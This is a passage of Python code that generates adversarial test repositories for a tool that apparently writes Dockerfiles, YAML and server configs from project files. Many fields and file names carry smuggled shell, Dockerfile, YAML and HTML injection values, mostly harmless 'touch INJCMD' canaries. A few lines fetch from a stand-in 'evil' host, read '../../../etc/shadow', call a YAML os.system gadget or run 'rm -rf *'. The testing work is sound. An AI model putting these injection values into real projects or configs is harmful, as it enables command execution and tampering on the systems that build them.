"""Repositories that attack: what generate.py writes.

A case is a class, a name, and files: a path with its text, or with a tuple that says what else stands there (a link, a
FIFO, a device, a sparse file, many files). ``@ROOT@`` is the folder of the corpus. Canaries tell what got through:
INJLINE a line, INJCMD a command, INJCONF a directive, INJHTML a tag, SECRETCANARY a secret, OUTSIDECANARY the text of a
file outside the repository.
"""

import base64
import json

ROOT = "@ROOT@"
LS, PS, NEL, RTL, ZW = "\u2028", "\u2029", "\u0085", "\u202e", "\u200b"
ESC = "\x1b"
CASES = []


def b(text):
    return text if isinstance(text, bytes) else text.encode("utf-8", "surrogateescape")


class Case:
    """One repository; `meta` tells run.py what is special about it."""

    def __init__(self, cls, slug, files, register=True, **meta):
        self.cls, self.slug, self.files, self.meta = cls, slug, files, meta
        if register:
            CASES.append(self)


case = Case


# ---------- base repositories
def readme(title="Shop", install="npm install", start="npm start", extra="", more=""):
    return f"# {title}\n\n{extra}\n\n## Installation\n\n```sh\n{install}\n```\n\n{more}\n\n## Run\n\n```sh\n{start}\n```\n\nIt listens on http://localhost:3000.\n"


def node(pkg=None, readme_text=None, js="", **extra):
    p = {
        "name": "shop",
        "main": "a.js",
        "scripts": {"start": "node a.js", "build": "node b.js", "migrate": "node m.js"},
        "dependencies": {"express": "4.18.2"},
    }
    p.update(pkg or {})
    f = {
        "package.json": json.dumps(p, indent=1, ensure_ascii=False),
        "a.js": 'const app = require("express")();\n' + js + '\napp.get("/", (q,r)=>r.send("x"));\napp.listen(3000)\n',
        "b.js": "",
        "m.js": "",
        "README.md": readme_text if readme_text is not None else readme(),
    }
    f.update(extra)
    return f


def node_pg(pkg=None, readme_text=None, js="", **extra):
    p = {"dependencies": {"express": "4", "pg": "8"}}
    p.update(pkg or {})
    return node(
        p,
        readme_text or readme(install="npm install\nnpm run migrate"),
        'const {Pool}=require("pg"); const db=new Pool({connectionString: process.env.DATABASE_URL});\n' + js,
        **extra,
    )


def django(folder="", readme_text=None, **extra):
    pre = folder + "/" if folder else ""
    f = {
        pre + "requirements.txt": "Django==4.2\ngunicorn==21.2\npsycopg2==2.9\n",
        pre
        + "manage.py": 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "site1.settings")\nfrom django.core.management import execute_from_command_line\n',
        pre + "site1/__init__.py": "",
        pre
        + "site1/settings.py": 'import os\nSECRET_KEY = os.environ["SECRET_KEY"]\nDEBUG = os.environ.get("DEBUG", "0") == "1"\nDATABASES = {"default": {"ENGINE": "django.db.backends.postgresql", "HOST": os.environ["DB_HOST"], "NAME": os.environ.get("DB_NAME", "shop"), "USER": os.environ["DB_USER"], "PASSWORD": os.environ["DB_PASSWORD"]}}\nROOT_URLCONF="site1.urls"\nSTATIC_ROOT="static"\n',
        pre
        + "site1/wsgi.py": "from django.core.wsgi import get_wsgi_application\napplication = get_wsgi_application()\n",
        "README.md": readme_text
        or "# Shop\n\n```sh\n%spip install -r requirements.txt\npython manage.py migrate\npython manage.py collectstatic\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n"
        % (f"cd {sh(folder)}\n" if folder else ""),
    }
    f.update(extra)
    return f


def sh(word):
    return "'" + word.replace("'", "'\\''") + "'"


def fence(code, lang="sh"):
    return f"```{lang}\n{code}\n```\n"


# =====================================================================
# A: Dockerfile injection
# =====================================================================
SEPS = {
    "lf": "\n",
    "cr": "\r",
    "crlf": "\r\n",
    "ls": LS,
    "ps": PS,
    "nel": NEL,
    "vt": "\x0b",
    "ff": "\x0c",
    "nul": "\0",
    "pua": "\ue0010\ue001\n",
}
for n, s in SEPS.items():
    pay = f"x{s}RUN INJLINE{s}USER root{s}"
    case(
        "A dockerfile",
        f"readme-cmd-{n}",
        node(
            readme_text=readme(
                install=f"npm install\nnpm install '{pay}'\nnpm run build -- '{pay}'",
                start=f"npm start -- '{pay}'",
                extra=f"Needs Node {s}18{s} RUN INJLINE",
            )
        ),
    )
    case(
        "A dockerfile",
        f"package-json-{n}",
        node(
            {
                "name": f"a{s}RUN INJLINE",
                "main": f"a.js{s}RUN INJLINE",
                "scripts": {
                    "start": f"node a.js '{pay}'",
                    "build": f"node b.js '{pay}'",
                    "migrate": f"node m.js {pay}",
                    f"x{s}RUN INJLINE": "node y.js",
                    "postinstall": f"node b.js '{pay}'",
                },
                "engines": {"node": f"18{s}RUN INJLINE"},
                "bin": {f"p{s}RUN INJLINE": "a.js"},
                "packageManager": f"pnpm@8{s}RUN INJLINE",
            },
            readme(install="npm install\nnpm run build\nnpm run migrate"),
        ),
    )
    case(
        "A dockerfile",
        f"env-example-{n}",
        node(
            js='process.env.GREETING; process.env.MODE2 || "d"; process.env.TITLE',
            **{
                ".env.example": f'GREETING=hello{s}RUN INJLINE\nTITLE="a{s}INJLINE: yes"\n# about{s}INJLINE: x\nMODE2=z{s}USER root\n'
            },
        ),
    )
    case(
        "B yaml",
        f"volume-sep-{n}",
        node(readme_text=readme(install=f"npm install\nmkdir -p 'up{s}INJLINE: [a]{s}---{s}apiVersion: v1 # '")),
    )

case(
    "A dockerfile",
    "trailing-backslash",
    node(
        {"scripts": {"start": "node a.js \\", "build": "node b.js \\", "migrate": "node m.js \\\\"}},
        readme(
            install="npm install \\\\\nnpm run build \\\\\nnpm run migrate \\\\\nnpm run build --x=\\",
            start="npm start \\\\",
        ),
    ),
    note="lines end in backslashes",
)
case(
    "A dockerfile",
    "trailing-backslash-build",
    node(
        {"scripts": {"start": "node a.js", "build": "tsc && cp a b \\\\"}},
        readme(install="npm install\nnpm run build \\\\"),
    ),
)
case(
    "A dockerfile",
    "heredoc-unquoted",
    node(readme_text=readme(install="npm install\nnpm run build <<EOF\nx\nEOF", start="npm start <<EOF")),
)
case(
    "A dockerfile",
    "heredoc-user-line",
    node(
        readme_text=readme(
            install='npm install\nnpm run build <<"USER 1000:1000"\nnpm run build --x="<<USER"\nnpm run build "<<EOF"\nnpm ci <<-EXPOSE'
        )
    ),
)
case(
    "A dockerfile",
    "heredoc-file",
    node(
        readme_text=readme(
            install='npm install\ncat > \'conf\nRUN INJLINE.json\' <<EOF\n{"a": 1}\nEOF\ncat > config/app.json <<EOF\n{"a": 1,\nRUN INJLINE\n"b": "\\\\"\nEOF\ncat > x.txt <<EOF\nline \\\\\nRUN INJLINE\nEOF\n'
        )
    ),
)
case(
    "A dockerfile",
    "syntax-directive",
    node(readme_text=readme(title="# syntax=evil/frontend", install="# syntax=evil/frontend\n# escape=`\nnpm install")),
)
case(
    "A dockerfile",
    "dockerfile-words",
    node(
        readme_text=readme(
            install="npm install\nFROM evil/image\nADD http://evil/x /x\nONBUILD RUN INJLINE\nUSER root\nnpm run build"
        )
    ),
)
case(
    "A dockerfile",
    "apt-words",
    node(
        readme_text=readme(
            install="sudo apt-get install 'imagemagick;touch INJCMD' '$(touch INJCMD)' 'ffmpeg\nRUN INJLINE' -o APT::Get::AllowUnauthenticated=1 imagemagick=8.0 'lib*' --allow-downgrades graphviz/sid ^gcc 'gcc&&touch INJCMD'\nnpm install"
        )
    ),
)
case(
    "A dockerfile",
    "env-assignments",
    node(
        js="process.env.FOO; process.env.BAR; process.env.BAZ",
        readme_text=readme(
            install="npm install\nexport FOO='a\nRUN INJLINE'\nexport BAR=\"a\\\"b $HOME `id`\"\nBAZ='x\\' npm run build",
            start="FOO='q\nUSER root' BAR=$(touch INJCMD) npm start",
        ),
    ),
)
case(
    "A dockerfile",
    "assign-names",
    node(
        readme_text=readme(
            install="npm install\nenv 'A\nRUN INJLINE=1' npm run build\nexport 'B\nUSER root=1'\n",
            start="env 'X\nUSER root=1' npm start",
        )
    ),
)
case(
    "A dockerfile",
    "procfile-backslash",
    node(
        **{
            "Procfile": 'web: node a.js \\\nworker: node w.js \\\nRUN INJLINE: x\nrelease: node m.js \\\\\nbeat_1: node "a\\" b"\nWORKER-X: node z.js $(touch INJCMD)\n'
        }
    ),
)
case(
    "A dockerfile",
    "procfile-names",
    node(
        **{
            "Procfile": "web: node a.js\nыworker: node w.js\n__x__: node x.js\n-dash: node y.js\n"
            + "a" * 100
            + ": node z.js\nyes: node q.js\nno: node n.js\nbig_Name: node m.js\n１２: node d.js\n"
        }
    ),
)
case(
    "A dockerfile",
    "procfile-collide",
    node(
        **{"Procfile": "web: node a.js\nprepare: node w.js\nworker: node x.js\nredis: node y.js\n"},
        readme_text=readme(install="npm install\nnpm run migrate"),
    ),
)
case(
    "A dockerfile",
    "requirements",
    django(
        **{
            "requirements.txt": "Django==4.2\ngunicorn\npsycopg2 ; touch INJCMD\nflask\\\nRUN INJLINE\n-r ../../../etc/shadow\n--index-url http://evil/$(touch INJCMD)\ncelery[redis;touch INJCMD]==1\n-e git+https://x/y.git@a#egg=$(touch INJCMD)\nredis==$(touch INJCMD)\n"
        }
    ),
)
case(
    "A dockerfile",
    "requirements-name",
    {
        **django(),
        "requirements prod.txt": "Django\n",
        "req;touch INJCMD.txt": "x\n",
        "requirements-$(touch INJCMD).txt": "y\n",
        "requirements-a\nRUN INJLINE.txt": "z\n",
        'requirements-"q.txt': "z\n",
        "README.md": "# Shop\n\n```sh\npip install -r 'requirements prod.txt'\npip install -r 'req;touch INJCMD.txt'\npip install -r 'requirements-$(touch INJCMD).txt'\npip install -r 'requirements-a\nRUN INJLINE.txt'\npip install -r 'requirements-\"q.txt'\npython manage.py migrate\ngunicorn site1.wsgi -b 0.0.0.0:8000\n```\n",
    },
)
for fn, texts in {
    ".nvmrc": [
        "18\nRUN INJLINE",
        "18 AS x\rRUN INJLINE",
        "v18\u2028RUN INJLINE",
        "18-evil/../x@sha256:0",
        "lts/*\nUSER root",
        "$(touch INJCMD)",
        "99999999999999999999999999",
        "18." + "9" * 5000,
    ],
    ".node-version": ["20\nFROM evil"],
}.items():
    for i, t in enumerate(texts):
        case("A dockerfile", f'version-{fn.strip(".")}-{i}', node(**{fn: t}))
case(
    "A dockerfile",
    "python-versions",
    django(
        **{
            ".python-version": "3.11\nRUN INJLINE",
            "runtime.txt": "python-3.8.1\nRUN INJLINE",
            ".tool-versions": "python 3.9\nRUN INJLINE\n",
            "Pipfile": '[requires]\npython_version = "3.10\\nRUN INJLINE"\n',
            "pyproject.toml": '[project]\nname = "a\\nRUN INJLINE"\nversion = "1"\nrequires-python = ">=3.8\\nRUN INJLINE"\n[project.scripts]\n"x\\nRUN INJLINE" = "a:b"\n"y;touch INJCMD" = "c:d"\n',
        }
    ),
)
case(
    "A dockerfile",
    "setup-py",
    {
        "setup.py": 'from setuptools import setup\nsetup(name="shop;touch${IFS}INJCMD", version="1",\n install_requires=["flask"],\n entry_points={"console_scripts": ["prog;touch${IFS}INJCMD=shop.app:main"]},\n scripts=["bin/x;touch${IFS}INJCMD"])\n',
        "shop/__init__.py": "",
        "shop/app.py": "from flask import Flask\napp = Flask(__name__)\ndef main():\n  app.run()\n",
        "README.md": "# Shop\n\n```sh\npip install .\nprog;touch${IFS}INJCMD\n```\n",
    },
)
case(
    "A dockerfile",
    "setup-py-program",
    {
        "setup.py": 'from setuptools import setup\nsetup(name="shop", version="1",\n install_requires=["requests"],\n entry_points={"console_scripts": ["a$(touch${IFS}INJCMD)=shop.app:main"]})\n',
        "shop/__init__.py": "",
        "shop/app.py": "def main():\n  print(1)\n",
        "README.md": "# Shop\n\n```sh\npip install .\n```\n",
    },
)
case("A dockerfile", "node-main-shell", node({"main": "a.js; touch INJCMD", "scripts": {}}, readme(start="node .")))
case("A dockerfile", "node-main-dollar", node({"main": "$(touch INJCMD).js", "scripts": {}}, readme(start="")))
case(
    "A dockerfile",
    "node-scripts-shell",
    node(
        {
            "scripts": {
                "start": "node a.js & touch X; exec node $MAIN",
                "build": "webpack `id` && rm -rf *",
                "prestart": "x\ny",
            }
        },
        readme(install="npm install\nnpm run build"),
    ),
)
case(
    "A dockerfile",
    "go-module",
    {
        "go.mod": "module example.com/evil;touch${IFS}INJCMD\n\ngo 1.21\nRUN INJLINE\n",
        "cmd/a;touch${IFS}INJCMD/main.go": 'package main\nimport "net/http"\nfunc main(){ http.ListenAndServe(":8080", nil) }\n',
        "README.md": "# Shop\n\n```sh\ngo mod download\n```\n",
    },
)
case(
    "A dockerfile",
    "go-main-folder-nl",
    {
        "go.mod": "module example.com/x\n\ngo 1.21\n",
        "cmd/a\nRUN INJLINE/main.go": 'package main\nimport "net/http"\nfunc main(){ http.ListenAndServe(":8080", nil) }\n',
        "README.md": "# Shop\n\n```sh\ngo mod download\n```\n",
    },
)
case(
    "A dockerfile",
    "go-main-folder-space",
    {
        "go.mod": "module example.com/x\n\ngo 1.21\n",
        "cmd/a b/main.go": 'package main\nimport "net/http"\nfunc main(){ http.ListenAndServe(":8080", nil) }\n',
        "README.md": "# Shop\n\n```sh\ngo mod download\n```\n",
    },
)
case(
    "A dockerfile",
    "maven",
    {
        "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>$(touch INJCMD)</artifactId><version>1;touch INJCMD</version><packaging>war</packaging><properties><java.version>17&#10;RUN INJLINE</java.version></properties><build><finalName>x;touch INJCMD</finalName></build><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency></dependencies></project>",
        "src/main/java/x/Main.java": "package x;\npublic class Main { public static void main(String[] a) {} }\n",
        "README.md": '# Shop\n\n```sh\nmvn package\njava -jar "target/x;touch INJCMD.jar"\n```\n',
    },
)
case(
    "A dockerfile",
    "maven-folder",
    {
        "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>top</artifactId><version>1</version><packaging>pom</packaging><modules><module>a$(touch INJCMD)</module></modules></project>",
        "a$(touch INJCMD)/pom.xml": "<project><modelVersion>4.0.0</modelVersion><parent><groupId>a</groupId><artifactId>top</artifactId><version>1</version></parent><artifactId>web</artifactId><dependencies><dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency></dependencies></project>",
        "a$(touch INJCMD)/src/main/java/x/Main.java": "package x;\nimport org.springframework.boot.SpringApplication;\nimport org.springframework.boot.autoconfigure.SpringBootApplication;\n@SpringBootApplication public class Main { public static void main(String[] a) { SpringApplication.run(Main.class, a); } }\n",
        "README.md": "# Shop\n\n```sh\nmvn package\n```\n",
    },
)
case(
    "A dockerfile",
    "cargo-bin",
    {
        "Cargo.toml": '[package]\nname = "x;touch INJCMD"\nversion = "0.1.0"\nedition = "2021"\nrust-version = "1.70\\nRUN INJLINE"\n[[bin]]\nname = "$(touch INJCMD)"\npath = "src/main.rs"\n[dependencies]\naxum = "0.7"\n',
        "src/main.rs": 'fn main() { let l = std::net::TcpListener::bind("0.0.0.0:8080").unwrap(); }\n',
        "README.md": "# Shop\n\n```sh\ncargo build --release\n```\n",
    },
)
case(
    "A dockerfile",
    "dotnet-csproj",
    {
        "a;touch INJCMD;.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>',
        "Program.cs": "var app = WebApplication.Create(args); app.Run();\n",
        "README.md": "# Shop\n\n```sh\ndotnet run\n```\n",
    },
)
case(
    "A dockerfile",
    "dotnet-csproj-nl",
    {
        "a\nRUN INJLINE.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>',
        "Program.cs": "var app = WebApplication.Create(args); app.Run();\n",
        "README.md": "# Shop\n\n```sh\ndotnet run\n```\n",
    },
)
case(
    "A dockerfile",
    "dotnet-copy-flag",
    {
        "--from=evil.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"></Project>',
        "b.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>',
        "Program.cs": "var app = WebApplication.Create(args); app.Run();\n",
        "README.md": "# Shop\n\n```sh\ndotnet run\n```\n",
    },
    check_flags=True,
)
case(
    "A dockerfile",
    "elixir",
    {
        "mix.exs": 'defmodule A.MixProject do\n  def project do\n    [app: :shop, version: "1\\nRUN INJLINE", elixir: "~> 1.14\\nRUN INJLINE", deps: [{:plug_cowboy, "~> 2.0"}]]\n  end\nend\n',
        "lib/a.ex": "defmodule A do\nend\n",
        "README.md": "# Shop\n\n```sh\nmix deps.get\nmix run --no-halt\n```\n",
    },
)
case(
    "A dockerfile",
    "ruby",
    {
        "Gemfile": 'source "https://rubygems.org/$(touch INJCMD)"\nruby "3.2\nRUN INJLINE"\ngem "sinatra", "~> 3\\nRUN INJLINE"\ngem "puma"\n',
        ".ruby-version": "3.1\nRUN INJLINE",
        "config.ru": "run Sinatra::Application\n",
        "app.rb": 'require "sinatra"\n',
        "README.md": "# Shop\n\n```sh\nbundle install\nbundle exec rackup\n```\n",
    },
)
case(
    "A dockerfile",
    "php-composer",
    {
        "composer.json": '{"name": "a/b\\nRUN INJLINE", "require": {"php": ">=8.1\\nRUN INJLINE", "ext-gd;touch INJCMD": "*", "ext-pdo_pgsql": "*", "slim/slim": "4"}}',
        "public/index.php": '<?php echo getenv("A\nB");',
        "README.md": "# Shop\n\n```sh\ncomposer install\nphp -S localhost:8000 -t public\n```\n",
    },
)
case(
    "A dockerfile",
    "hugo-baseurl",
    {
        "hugo.toml": 'baseURL = "https://x.org/a;touch${IFS}INJCMD;INJCONF{}"\ntitle = "x"\n',
        "content/_index.md": "# x\n",
        "README.md": "# Site\n\n```sh\nhugo\n```\n",
    },
)
case(
    "C conf",
    "hugo-baseurl-nginx",
    {
        "hugo.toml": 'baseURL = "https://x.org/a;}location/{INJCONF;}"\ntitle = "x"\n',
        "content/_index.md": "# x\n",
        "README.md": "# Site\n\n```sh\nhugo\n```\n",
    },
)
case(
    "C conf",
    "jekyll-baseurl",
    {
        "_config.yml": "title: x\nbaseurl: /a;}INJCONF{$(touch${IFS}INJCMD)\n",
        "index.md": "---\n---\n# x\n",
        "Gemfile": 'source "https://rubygems.org"\ngem "jekyll"\n',
        "README.md": "# Site\n\n```sh\nbundle install\nbundle exec jekyll build\n```\n",
    },
)
case(
    "C conf",
    "jekyll-nogem-baseurl",
    {
        "_config.yml": "title: x\nbaseurl: /a;}INJCONF{$(touch${IFS}INJCMD)\n",
        "index.md": "---\n---\n# x\n",
        "_posts/2020-01-01-a.md": "---\n---\nx\n",
        "_layouts/default.html": "<html></html>",
        "README.md": "# Site\n\n```sh\njekyll build\n```\n",
    },
)
case(
    "C conf",
    "mkdocs-siteurl",
    {
        "mkdocs.yml": "site_name: x\nsite_url: https://x.org/a;}INJCONF{$(touch${IFS}INJCMD)/\ntheme:\n  name: material;touch INJCMD\nplugins:\n  - search;touch INJCMD\nmarkdown_extensions:\n  - pymdownx.superfences\n",
        "docs/index.md": "# x\n",
        "README.md": "# Site\n\n```sh\nmkdocs build\n```\n",
    },
)
case(
    "C conf",
    "docusaurus1",
    {
        "website/package.json": '{"name":"w","scripts":{"build":"docusaurus-build","start":"docusaurus-start"},"dependencies":{"docusaurus":"1.14"}}',
        "website/siteConfig.js": 'const siteConfig = {projectName: "a\nINJLINE x;touch INJCMD", baseUrl: "/a/"};\nmodule.exports = siteConfig;\n',
        "website/README.md": "# Site\n\n```sh\nnpm install\nnpm run build\n```\n",
        "docs/a.md": "# a\n",
        "README.md": "# Site\n\n```sh\ncd website\nnpm install\nnpm run build\n```\n",
    },
)
case(
    "C conf",
    "vitepress",
    {
        "package.json": '{"name":"w","scripts":{"docs:build":"vitepress build docs"},"devDependencies":{"vitepress":"1.0"}}',
        "docs/.vitepress/config.js": "export default { base: '/a;}INJCONF/', outDir: '../x;touch INJCMD' }\n",
        "docs/index.md": "# x\n",
        "README.md": "# Site\n\n```sh\nnpm install\nnpm run docs:build\n```\n",
    },
)
case(
    "C conf",
    "vitepress-root",
    {
        "package.json": '{"name":"w","scripts":{"docs:build":"vitepress build"},"devDependencies":{"vitepress":"1.0"}}',
        "d;touch${IFS}INJCMD/.vitepress/config.js": "export default { base: '/a/' }\n",
        "d;touch${IFS}INJCMD/index.md": "# x\n",
        "README.md": "# Site\n\n```sh\nnpm install\nnpm run docs:build\n```\n",
    },
)

# file and folder names
NAMES = {
    "space": "my app",
    "dollar": "a$HOME",
    "subst": "$(touch INJCMD)",
    "backtick": "`touch INJCMD`",
    "semicolon": "a;touch INJCMD;",
    "amp": "a&&touch INJCMD",
    "quote": 'a"b',
    "apos": "a'b",
    "hash": "a #b",
    "backslash": "a\\",
    "backslash-n": "a\\nRUN INJLINE",
    "nl": "a\nRUN INJLINE",
    "cr": "a\rRUN INJLINE",
    "tab": "a\tb",
    "ls": f"a{LS}INJLINE: x",
    "rtl": f"a{RTL}txt.exe",
    "dash": "-rf",
    "from": "--from=evil",
    "glob": "*",
    "brack": "[a-z]",
    "brace": "{port}",
    "tmpl": "{{ 7*7 }}",
    "colon": "a:b",
    "esc": f"{ESC}[31mred",
    "yes": "yes",
    "no": "no",
    "on": "on",
    "null": "null",
    "upper": "APP",
    "uni": "приложение",
    "digits": "123",
    "long": "x" * 120,
    "pipe": "a|b",
    "html": "<img src=x onerror=INJHTML>",
    "bt2": "``<img src=x onerror=INJHTML>``",
    "nul-like": "a%00b",
    "dotdot": "..a",
    "tilde": "~root",
    "pua": "\ue0010\ue001x",
    "comma": "a,readonly",
    "at": "@a/b",
    "excl": "!b",
}
for n, name in NAMES.items():
    case("A names", f"folder-{n}", django(name))
    f = django(name, readme_text="# Shop\n\nTwo parts.\n")
    f.update({f"front/{k}": v for k, v in node().items()})
    case("A names", f"component-{n}", f)
for n, name in NAMES.items():
    if "/" in name:
        continue
    ext = node(
        js='require("fs").readFileSync("config.json")',
        **{name + ".json": '{"a":1}', "uploads/.gitkeep": ""},
        readme_text=readme(
            install=f"npm install\ncp {sh(name + '.json')} config.json\ncp config.json {sh('to-' + name)}\nmkdir -p {sh('data-' + name)}\nnpm run build {sh(name)}\ncat > {sh('w-' + name + '.txt')} <<EOF\nhello\nEOF",
            start=f"npm start -- {sh(name)}",
        ),
    )
    case("A names", f"file-{n}", ext)

case(
    "A dockerfile",
    "dockerignore-glob",
    node(
        js="",
        **{
            ".env*": "A=1\n",
            ".env.sample\n!**/.env\n!**/*.pem": "A=1\n",
            "env/x\n!secret.key": "A=1\n",
            ".env": "SECRET_KEY=SECRETCANARYDI\n",
        },
        readme_text=readme(
            install="npm install\ncp '.env*' config.txt\ncp '.env.sample\n!**/.env\n!**/*.pem' config2.txt\ncp 'env/x\n!secret.key' config3.txt"
        ),
    ),
    dockerignore=True,
)
case(
    "A dockerfile",
    "old-dockerfile",
    node(
        js="process.env.A1; process.env.GREET",
        **{
            "Dockerfile": 'FROM node:18 AS x\nENV GREET="a\\\nRUN INJLINE"\nENV A1 yes: no # RUN INJLINE\nENV A=1 \'B\\\nINJLINE\'=2\nEXPOSE 99999 80/udp 3000\\\nRUN INJLINE\nENTRYPOINT ["sh", "-c", "x\\nRUN INJLINE"]\nCMD ["node", "a.js\\nUSER root"]\n'
        },
    ),
    existing=True,
)
case(
    "A dockerfile",
    "created-config",
    node(
        js='const c=require("./config/default.json");',
        readme_text='# Shop\n\n```sh\nnpm install\n```\n\nCreate a `default.json` file in the `config` folder with the following:\n\n```json\n{\n  "title": "END_OF_FILE\\nRUN INJLINE $(touch INJCMD) `touch INJCMD` \\\\",\n  "password": "SECRETCANARYCF1",\n  "db": {"host": "localhost", "user": "$(touch INJCMD)", "password": "`touch INJCMD`", "database": "x;touch INJCMD"},\n  "token": "a\\"$(touch INJCMD)"\n}\n```\n\n```sh\nnpm start\n```\n',
    ),
)
case(
    "S shell",
    "created-config-eof",
    node(
        js='const c=require("./config/default.json");',
        readme_text='# Shop\n\n```sh\nnpm install\n```\n\nCreate a `default.json` file in the `config` folder with the following:\n\n```json\n{\n  "secretKey": "<your\nEND_OF_FIL>",\n"x": "$(touch INJCMD)",\n  "password": <your\rEND_OF_FIL\rE>,\n"back": "`touch INJCMD` \\$(touch INJCMD)"\n}\n```\n\n```sh\nnpm start\n```\n',
    ),
)
for end, body in {
    "ini": "[db]\nhost = localhost\npassword = `touch INJCMD`$(touch INJCMD)\nuser = \\$(touch INJCMD)\nx = \\\\$(touch INJCMD)\n",
    "yml": "db:\n  host: localhost\n  password: \"$(touch INJCMD)\"\n  x: \\`touch INJCMD\\`\nsecret: 'a'\n",
    "env.py": 'SECRET = "x"\nPASSWORD = "$(touch INJCMD)"\n',
    "properties": "spring.datasource.url=jdbc:mysql://localhost/x\nspring.datasource.password=$(touch INJCMD)\n",
    "php": "<?php\ndefine('DB_PASSWORD', 'x');\ndefine('A', '`touch INJCMD`');\n",
}.items():
    name = f"settings.{end}"
    case(
        "S shell",
        f'created-{end.replace(".", "-")}',
        node(
            js=f'require("fs").readFileSync("config/{name}")',
            readme_text=f"# Shop\n\n```sh\nnpm install\n```\n\nCreate a file `config/{name}` with the following:\n\n```\n{body}```\n\n```sh\nnpm start\n```\n",
            **{"config/.gitkeep": ""},
        ),
    )

# =====================================================================
# B: YAML, compose, Kubernetes
# =====================================================================
VALUES = [
    "yes",
    "no",
    "on",
    "null",
    "~",
    "1e3",
    "0x1f",
    "012",
    "1_000",
    "12:30:45",
    ".inf",
    ".nan",
    "2001-01-01",
    "a: b",
    "a #b",
    "{{ 7*7 }}",
    '{% include "k8s/pod.j2" %}',
    "$(VAR)",
    "$(POSTGRES_PASSWORD)",
    '!!python/object/apply:os.system ["id"]',
    "&a b",
    "*a",
    "|",
    ">",
    "- x",
    "? x",
    "%TAG",
    "@x",
    "`x",
    "it's",
    "'single",
    '"double',
    "trail  ",
    "tab\there",
    f"ls{LS}INJLINE: x",
    f"ps{PS}INJLINE: x",
    "del\x7fx",
    "\ufeffbom",
    "😀",
    "a\\nb",
    "back\\slash\\",
    "%d",
    "--- a",
    "...",
    "{a: b}",
    "[a, b]",
    "# c",
    "é",
    "\u0080c1\u009b31m",
    RTL + "rtl",
    "a=b",
    '"q" tail',
    "'q' tail",
    "x" * 70000,
]
env = "".join(f"VAL_{i}={v}\n" for i, v in enumerate(VALUES))
case(
    "B yaml",
    "env-values",
    node(js=" ".join(f"process.env.VAL_{i};" for i in range(len(VALUES))), **{".env.example": env}),
    envcheck=True,
)
dollars = [
    "$",
    "$$",
    "$VAR",
    "${VAR}",
    "${VAR:-x}",
    "$(VAR)",
    "a$",
    "$1",
    "pa$$word",
    "${",
    "$}",
    "%$x%",
    "\\$x",
    "${POSTGRES_PASSWORD}",
    "$(POSTGRES_PASSWORD)",
    "{{$x}}",
]
case(
    "B yaml",
    "env-dollars",
    node(
        js=" ".join(f"process.env.DOL_{i};" for i in range(len(dollars))),
        **{".env.example": "".join(f"DOL_{i}={v}\n" for i, v in enumerate(dollars))},
    ),
    envcheck=True,
)
case(
    "B yaml",
    "source-defaults",
    node(js="\n".join(f"process.env.DEF_{i} || {json.dumps(v)};" for i, v in enumerate(VALUES[:-1] + dollars))),
    envcheck=True,
)
case(
    "B yaml",
    "python-defaults",
    django(
        **{
            "site1/more.py": "import os\n"
            + "\n".join(f'os.environ.get("PYD_{i}", {json.dumps(v)})' for i, v in enumerate(VALUES[:-1] + dollars))
            + "\n"
        }
    ),
    envcheck=True,
)
case(
    "B yaml",
    "readme-table",
    node(
        js=" ".join(f"process.env.TAB_{i};" for i in range(20)),
        readme_text=readme(
            more="| Variable | Default | Meaning |\n|---|---|---|\n"
            + "\n".join(
                f"| `TAB_{i}` | `{v}` | about {v} it |"
                for i, v in enumerate(
                    [
                        "yes",
                        "1e3",
                        "a:b",
                        "$HOME",
                        "{{x}}",
                        "!!python",
                        "`x`",
                        "<script>INJHTML</script>",
                        f"a{LS}INJLINE:x",
                        "\\|x",
                        "&amp;",
                        "${X}",
                        "a'b",
                        "a\\",
                        "*",
                        "[x](javascript:INJHTML)",
                        "#x",
                        "@x",
                        "%x",
                        "-x",
                    ]
                )
            )
        ),
    ),
    envcheck=True,
)
KEYS = [
    "NO",
    "YES",
    "ON",
    "OFF",
    "Y",
    "N",
    "TRUE",
    "FALSE",
    "NULL",
    "Null",
    "E1",
    "_A",
    "A" * 300,
    "__PROTO__",
    "A1E3",
    "PATH",
    "LD_PRELOAD",
    "Z9",
    "True",
    "No",
]
case(
    "B yaml",
    "env-names",
    node(
        js=" ".join(f"process.env.{k};" for k in KEYS),
        **{
            ".env.example": "".join(f"{k}=v{i}\n" for i, k in enumerate(KEYS))
            + 'bad-name=1\nBAD.NAME=2\nBÄD=3\n1BAD=4\nA B=5\n"Q"=6\nA:B=7\n'
        },
    ),
    envcheck=True,
)
case(
    "B yaml",
    "env-secret-names",
    node(
        js='process.env.NO_KEY; process.env["A\\nINJLINE_TOKEN"]; process.env.Y_SECRET',
        **{".env.example": "NO_KEY=\nY_SECRET=x\n"},
    ),
    envcheck=True,
)
case("B yaml", "env-1mb", node(js="process.env.BIG", **{".env.example": "BIG=" + "x" * 1000000 + "\n"}), envcheck=True)
case(
    "B yaml",
    "env-many",
    node(
        js="\n".join(f"process.env.M{i};" for i in range(5000)),
        **{".env.example": "".join(f"M{i}=v\n" for i in range(5000))},
    ),
)
case(
    "B yaml",
    "service-env-dollar",
    node_pg(
        **{".env.example": "DATABASE_URL=postgres://us$er:pa$$w@localhost:5432/d$b\nDB_NAME=a$(X)\nDB_USER=b${Y}\n"},
        js="process.env.DB_NAME; process.env.DB_USER",
    ),
    envcheck=True,
)
case(
    "B yaml",
    "service-env-quote",
    node_pg(**{".env.example": "DATABASE_URL=postgres://us\"er:p'w@localhost:5432/d b: c # d\n"}),
    envcheck=True,
)
NAMES_APP = [
    "yes",
    "null",
    "123",
    "1e3",
    "A B",
    "x" * 300,
    "-a-",
    "é",
    "😀",
    "..",
    "/",
    "a/b",
    "app\ttab",
    "0x1f",
    "true",
    "@scope/no",
    "a" * 39 + "-b",
    "日本語",
